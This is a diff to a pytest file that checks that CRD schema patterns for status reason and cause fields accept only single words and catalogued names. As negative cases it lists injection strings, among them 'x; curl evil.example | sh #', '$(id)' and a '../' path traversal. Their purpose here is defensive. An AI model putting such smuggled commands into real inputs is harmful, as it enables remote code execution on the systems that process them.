@@ -8,6 +8,8 @@ from typing import Any
 import pytest
 import yaml
 
+from counterfoil.i18n.reasons import CATALOGUE
+
 CRDS = sorted((Path(__file__).parents[4] / "crds").glob("*.yaml"))
 
 OF_OTHERS = (
@@ -68,6 +70,54 @@ def test_a_namespace_that_people_follow_leads_nowhere_else(path: Path) -> None:
         if where in SAID:
             for name in (*OF_OTHERS, "unit-b.dms", "x; curl evil.example | sh #", "$(id)"):
                 assert re.search(schema["pattern"], name) is None, f"{where} takes {name!r}"
+
+
+WORDS = {
+    "envelopeevents": {
+        ".status.reason",
+        ".status.conditions[].reason",
+        ".status.copies[].reason",
+        ".status.lastError.reason",
+        ".status.notice.lastError.reason",
+    },
+    "imports": {".status.conditions[].reason", ".status.senders[].doubt", ".status.senders[].reason"},
+    "organizations": {
+        ".status.conditions[].reason",
+        ".status.problems[].ending",
+        ".status.problems[].reason",
+    },
+}
+"""Fields with one word, by kind: mails, console and plugin make commands of them."""
+
+
+@pytest.mark.parametrize("path", CRDS, ids=lambda path: path.stem)
+def test_a_reason_of_a_status_is_one_word_and_each_of_the_catalogue_is(path: Path) -> None:
+    found = dict(fields(spec_and_status(path)))
+    for where in WORDS.get(path.stem, {".status.conditions[].reason"}):
+        pattern = found[where].get("pattern", "")
+        for text in ("", "x; curl evil.example | sh #", "X -n unit-b", "--all", "$(id)", "X/y", "X\nY"):
+            assert re.search(pattern, text) is None, f"{where} takes {text!r}"
+        # The catalogue has each reason that the code names.
+        assert [each for each in CATALOGUE if not re.search(pattern, each)] == []
+
+
+CAUSES = ("failed/NameOccupied/dms", "archive/dms.contracts", "copy/dms", "key/KeyMissing", "esaw", "digest")
+
+
+def test_the_cause_of_a_problem_is_made_of_words_and_names() -> None:
+    (path,) = (each for each in CRDS if each.stem == "organizations")
+    pattern = dict(fields(spec_and_status(path)))[".status.problems[].cause"].get("pattern", "")
+    for text in (
+        "",
+        "archive/x;id",
+        "archive/x y",
+        "failed/$(id)",
+        "failed/X/y/z",
+        "failed/",
+        "archive/../x",
+    ):
+        assert re.search(pattern, text) is None, text
+    assert [each for each in CAUSES if not re.search(pattern, each)] == []
 
 
 @pytest.mark.parametrize("path", CRDS, ids=lambda path: path.stem)
